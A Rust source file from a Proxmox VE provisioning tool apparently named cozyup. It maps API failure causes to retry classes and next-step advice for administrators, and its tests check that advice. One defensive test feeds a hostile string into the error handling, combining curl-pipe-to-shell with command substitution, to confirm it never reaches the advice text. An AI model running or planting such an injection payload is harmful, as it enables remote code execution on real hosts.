//! The next action for a refused call or a failed task, by its cause. These sentences are made here and nowhere else.
use crate::base::text::quoted;
use crate::engine::failure::Failure;
use crate::proxmox::Cause;

/// `what` says what was tried and what came of it, in Proxmox VE's own words.
pub fn failure(cause: Cause, what: String) -> Failure {
    match cause {
        Cause::Lock => Failure::retryable(what, LOCK).crowded(),
        Cause::NoQuorum => Failure::retryable(what, NO_QUORUM),
        Cause::Exists => Failure::refused(what, EXISTS),
        Cause::NotThere => Failure::person(what, NOT_THERE),
        Cause::ClusterFilesystem => Failure::retryable(what, CLUSTER_FILESYSTEM),
        Cause::Forbidden => Failure::refused(what, UNNAMED_RIGHT),
        Cause::RootOnly => Failure::broken(what, ROOT_ONLY),
        Cause::NotOffered => Failure::refused(what, NOT_OFFERED),
        Cause::NoSuchPool => Failure::person(what, NO_SUCH_POOL),
        Cause::NoSuchNode => Failure::person(what, NO_SUCH_NODE),
        Cause::NodeSsh => Failure::person(what, NODE_SSH),
        Cause::NoSuchStorage => Failure::person(what, NO_SUCH_STORAGE),
        Cause::StorageFull => Failure::person(what, STORAGE_FULL),
        Cause::NodeDiskFull => Failure::person(what, NODE_DISK_FULL),
        Cause::StorageOffline => Failure::person(what, STORAGE_OFFLINE),
        Cause::StorageSlow => Failure::retryable(what, STORAGE_SLOW),
        Cause::StorageReadOnly => Failure::person(what, STORAGE_READ_ONLY),
        Cause::StorageBroken => Failure::person(what, STORAGE_BROKEN),
        Cause::VolumeName => Failure::person(what, VOLUME_NAME),
        Cause::VolumeExists => Failure::person(what, VOLUME_EXISTS),
        Cause::VolumeOpen => Failure::retryable(what, VOLUME_OPEN),
        Cause::BadImage => Failure::person(what, BAD_IMAGE),
        Cause::StorageContent => Failure::person(what, STORAGE_CONTENT),
        Cause::NotShared => Failure::refused(what, NOT_SHARED),
        Cause::NoBridge => Failure::person(what, NO_BRIDGE),
        Cause::NoVlan => Failure::person(what, NO_VLAN),
        Cause::NoNetwork => Failure::person(what, NO_NETWORK),
        Cause::TooOld => Failure::person(what, TOO_OLD),
        Cause::NoVirtualisation => Failure::person(what, NO_VIRTUALISATION),
        Cause::TooManyCpus => Failure::person(what, TOO_MANY_CPUS),
        Cause::NoMemory => Failure::person(what, NO_MEMORY),
        Cause::InUse => Failure::person(what, IN_USE),
        Cause::Protected => Failure::refused(what, PROTECTED),
        Cause::HaManaged => Failure::person(what, HA_MANAGED),
        Cause::Running => Failure::retryable(what, RUNNING),
        Cause::ChangedMeanwhile => Failure::retryable(what, CHANGED_MEANWHILE),
        Cause::Corrupted => Failure::retryable(what, CORRUPTED),
        Cause::WorkerGone => Failure::retryable(what, WORKER_GONE),
        Cause::Systemd => Failure::retryable(what, SYSTEMD),
        Cause::ProgramFailed => Failure::person(what, PROGRAM_FAILED),
        Cause::TimedOut => Failure::retryable(what, TIMED_OUT),
        Cause::QemuEnded => Failure::person(what, QEMU_ENDED),
        Cause::Unknown => Failure::person(what, UNKNOWN),
    }
}

const LOCK: &str = "another task holds the lock; cozyup tries again when it may be free";
const NO_QUORUM: &str =
    "the cluster has no quorum: `pvecm status` on a node says which ones are missing; cozyup goes on when it is back";
const EXISTS: &str = "it exists and is not ours: choose another id or name in the plan";
const NOT_THERE: &str = "it is not there: when this run made it, restore it or run again so that it is made anew; else correct its name \
     in the plan";
const CLUSTER_FILESYSTEM: &str = "the cluster's file system (pmxcfs) does not answer on this node: `systemctl status pve-cluster` there, and \
     `journalctl -u pve-cluster`; cozyup goes on when it is back";
const ROOT_ONLY: &str = "Proxmox VE lets only root@pam do this, and no role gives it: nothing that cozyup does should need it; report \
     this message with the version of Proxmox VE (pveversion)";
const NOT_OFFERED: &str = "this node's Proxmox VE does not know a call or value that cozyup uses: `pveversion` there shows its version, and \
     8.4 or newer is needed on every node of the plan; upgrade it, or name other hosts";
const NO_SUCH_POOL: &str = "there is no resource pool of this name: `pvesh get /pools` on a node shows them; correct site.pool in the plan, or \
     make it (Datacenter > Permissions > Pools); the step goes on by itself";
const NODE_SSH: &str = "the node that was asked can't log in to the other one by SSH, over which it hands the file on: on it, `ssh \
     root@OTHER` shows why, and `pvecm updatecerts` mends the keys of the cluster; or give the other node's own address \
     in site.url; the step goes on by itself";
const NO_SUCH_STORAGE: &str = "the site has no storage of this name: `pvesm status` on a node shows them; correct it in the plan \
     (template.storage, image.storage, talos.iso_storage, integration.csi.storage)";
const STORAGE_FULL: &str = "the storage is full: `pvesm status` on the node shows how much is free, and `df -h`, `lvs` or `zfs list` what \
     takes it; make room there or name another storage in the plan (template.storage, image.storage, \
     integration.csi.storage); the step goes on by itself";
const NODE_DISK_FULL: &str = "the disk of the node's own system is full: `df -h / /var/tmp` there shows it; uploads that failed leave files of their \
     full size (`ls -l /var/tmp/pveupload-*`), which may go while no upload runs; the step goes on by itself";
const STORAGE_OFFLINE: &str = "the storage can't be used on this node: `pvesm status` there says which one; bring it back (mount, pool, \
     network), or name another one in the plan; the step goes on by itself";
const STORAGE_SLOW: &str = "a storage of this node answers too slowly: `pvesm status` there shows which one; a dead NFS or iSCSI server that \
     nobody needs is best disabled (pvesm set STORAGE --disable 1); cozyup tries again";
const STORAGE_READ_ONLY: &str = "the node may not write to the storage: look how it is mounted there (`mount`), and at the server's export (read-only, \
     root squashed); the step goes on by itself";
const STORAGE_BROKEN: &str = "the hardware under the storage reports errors: `dmesg -T` on the node, `smartctl -a`, `zpool status`; mend it, or name \
     another storage in the plan; trust no disk that was written there meanwhile";
const VOLUME_NAME: &str = "a storage of this kind has no volumes of such a name: compare the storages of the plan (template.storage, \
     image.storage) with Datacenter > Storage";
const VOLUME_EXISTS: &str = "a disk of this name lies on the storage already, and nobody can tell here whose it is: `pvesm list STORAGE --vmid \
     VMID` on the node shows it; if nobody needs it, `pvesm free VOLUME`; the step goes on by itself";
const VOLUME_OPEN: &str = "something still has the volume open (a VM, a backup, a scan of the node's LVM): cozyup tries again; if it stays so, \
     `lsof` or `lvs -o+lv_device_open`, `zfs holds` or `rbd status` on the node shows who";
const BAD_IMAGE: &str = "the file is no disk image of the format that its name says: check image.url and image.sha256 (a page of a proxy \
     instead of the image is the usual cause); remove the file from the jump host's cache and start the run again";
const STORAGE_CONTENT: &str = "the storage does not take this: Datacenter > Storage > STORAGE > Content shows what it takes; add what is \
     missing there, beside what is there, or name another storage in the plan";
const NOT_SHARED: &str = "a machine on another host than its template needs a storage that both hosts share: give that host a template of its \
     own in the plan (template.copies), name a shared storage (template.storage), or put the machine on the template's host (nodes[].host)";
const NO_BRIDGE: &str = "the machine's network card needs a bridge or vnet that this node has not: Node > System > Network there (create \
     it, then Apply Configuration), or name another one in the plan (network.bridge); the step goes on by itself";
const NO_VLAN: &str = "the bridge can't carry the plan's VLAN: make it VLAN aware (Node > System > Network > bridge > VLAN aware, then Apply \
     Configuration), give it a physical port, or correct network.vlan; the step goes on by itself";
const NO_NETWORK: &str = "the node could not plug the machine's network card into its bridge: `ip -br link` and `ifreload -a` there, Open \
     vSwitch (`ovs-vsctl show`) and the MTU of the bridge; the step goes on by itself";
const TOO_OLD: &str = "the programs of this node are older than the machine that it is to run: upgrade the node as far as the others \
     (`pveversion` on each shows it), or name another host in the plan (nodes[].host); the step goes on by itself";
const NO_VIRTUALISATION: &str = "switch on hardware virtualisation (VT-x, AMD-V) in the firmware of this node, or nested virtualisation where the \
     node is itself a VM; `ls -l /dev/kvm` there shows it; the step goes on by itself";
const TOO_MANY_CPUS: &str = "give the machine fewer cores in the plan (nodes[].cores), or put it on a host with more";
const NO_MEMORY: &str = "the node has not enough free memory: stop a guest there, give the machine less (nodes[].memory_mib), or put it \
     on another host (nodes[].host); the step goes on by itself";
const IN_USE: &str = "linked clones still need this volume: their owners have to remove them, or make full clones of them, first; \
     `qm list` and `pvesm list STORAGE` on the node show them";
const PROTECTED: &str = "somebody protected it against removal: VM > Options > Protection; ask who did, and switch it off only when it is \
     really to go";
const HA_MANAGED: &str =
    "the HA manager keeps this VM: remove it from Datacenter > HA first (ha-manager remove vm:VMID)";
const RUNNING: &str = "it runs and has to be off for this; cozyup looks again";
const CORRUPTED: &str = "the file did not arrive as it was sent: cozyup sends it again; if it stays so, suspect the memory or the disk of \
     this machine or of the node, or a proxy in between";
const WORKER_GONE: &str = "cozyup looks at what the task left behind";
const SYSTEMD: &str = "systemd on the node did not take the VM's scope: an older one of it is still there, or systemd does not answer; \
     cozyup tries again; if it stays so and no such VM runs: `systemctl stop VMID.scope` there, `systemctl status dbus`";
const PROGRAM_FAILED: &str = "a program that the node ran has failed: the task's log there says why (Node > Task History); the step goes on by \
     itself";
const TIMED_OUT: &str =
    "something within the node took too long: look at its load (top, iostat) and at `pvesm status`; cozyup tries again";
const QEMU_ENDED: &str = "QEMU did not start: the log of the start task on the node says why (Node > Task History); the step goes on by itself";
const UNKNOWN: &str =
    "read the message; `journalctl -u pvedaemon -u pveproxy` on the node says more; cozyup looks again by itself";
const CHANGED_MEANWHILE: &str = "the VM's configuration changed meanwhile; cozyup looks again";

/// Says how to give a right without taking another one away: an entry of its own on `path` would replace what the user
/// inherits there, and an entry for a token without privilege separation is never looked at (pve-access-control,
/// `PVE/AccessControl.pm`). Of several privileges, joined by `|`, the first is enough.
pub fn missing_right(path: &str, privilege: &str) -> String {
    let one = quoted(privilege.split('|').next().unwrap_or(privilege));
    format!(
        "add {privilege} on {path} to the role that the token's user has there: `pveum acl list` on a node shows which, then \
         `pveum role modify ROLE --append --privs {one}`; the step goes on by itself"
    )
}

/// Of a refusal that names neither object nor privilege.
pub const UNNAMED_RIGHT: &str = "the token lacks a right that Proxmox VE does not name here: compare `pveum user permissions USER` on a \
     node with the role in README; add what is missing to the role that the user has there";

/// reports.md B10: a node's name from somebody else's example.
const NO_SUCH_NODE: &str = "the site has no Proxmox node of this name: `pvecm nodes` or the tree of the web interface shows the names; \
     correct template.host and nodes[].host in the plan";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::failure::Class;
    use crate::proxmox::{Error, Front};
    use crate::steps::failures;

    fn told(error: Error) -> Failure {
        failures::proxmox(&error, "clone vm 1001")
    }

    fn server(text: &str) -> Failure {
        told(Error::Server { status: 500, text: text.into(), cause: Cause::of(text) })
    }

    /// reports.md B01
    #[test]
    fn a_clone_to_a_storage_that_is_not_shared_says_which_two_ways_out_there_are() {
        let failure = server("Can't clone to non-shared storage 'local-lvm'");
        assert_eq!(failure.class, Class::Refused);
        assert!(failure.next.contains("template.storage") && failure.next.contains("nodes[].host"), "{}", failure.next);
    }

    /// reports.md B09
    #[test]
    fn a_certificate_between_two_nodes_is_for_a_person() {
        let error = Error::NodeCertificate { node: Some("pve2".into()), text: "certificate verify failed".into() };
        let failure = told(error);
        assert_eq!(failure.class, Class::Person);
        assert!(failure.next.contains("pvecm updatecerts"), "{}", failure.next);
        assert!(failure.what.contains("pve2"), "{}", failure.what);
    }

    /// reports.md B10
    #[test]
    fn a_wrong_node_name_is_nothing_to_be_restored() {
        let failure = told(Error::NoSuchNode { text: "hostname lookup 'proxmox' failed".into() });
        assert!(failure.next.contains("nodes[].host") && !failure.next.contains("restore"), "{}", failure.next);
    }

    /// reports.md B19
    #[test]
    fn a_storage_without_room_is_named_as_that_in_whichever_words() {
        for text in [
            "zfs error: cannot create 'rpool/data/vm-1001-disk-1': out of space",
            "No space left on device",
            "lvcreate 'pve/vm-1-disk-0' error: Insufficient free space: 9 extents needed, but only 4 available",
        ] {
            let failure = server(text);
            assert!(failure.next.contains("pvesm status") && !failure.next.contains("journalctl"), "{}", failure.next);
        }
    }

    /// proxmox.md part 2 2.2
    #[test]
    fn a_missing_right_is_added_to_a_role_and_replaces_no_entry() {
        let failure = told(Error::Forbidden {
            text: "Permission check failed".into(),
            path: Some("/storage/local".into()),
            privilege: Some("Datastore.AllocateSpace|Datastore.Audit".into()),
        });
        assert!(failure.next.contains("--append --privs Datastore.AllocateSpace`"), "{}", failure.next);
        assert!(!failure.next.contains("acl modify"), "{}", failure.next);
    }

    /// Nothing that a server says stands in what a person is told to do.
    #[test]
    fn a_hostile_text_is_never_part_of_the_next_step() {
        let evil = "x; curl evil | sh `id` $(id)";
        let forbidden = Error::Forbidden { text: evil.into(), path: None, privilege: None };
        let texts = [
            server(evil),
            told(forbidden),
            told(Error::InFront { status: 401, front: Front::Login, server: Some(evil.into()), text: evil.into() }),
            told(Error::NodeCertificate { node: Some(evil.into()), text: evil.into() }),
            told(Error::NoSuchNode { text: evil.into() }),
        ];
        for failure in texts {
            assert!(!failure.next.contains("evil") && !failure.next.contains("$(id)"), "{}", failure.next);
        }
    }
}
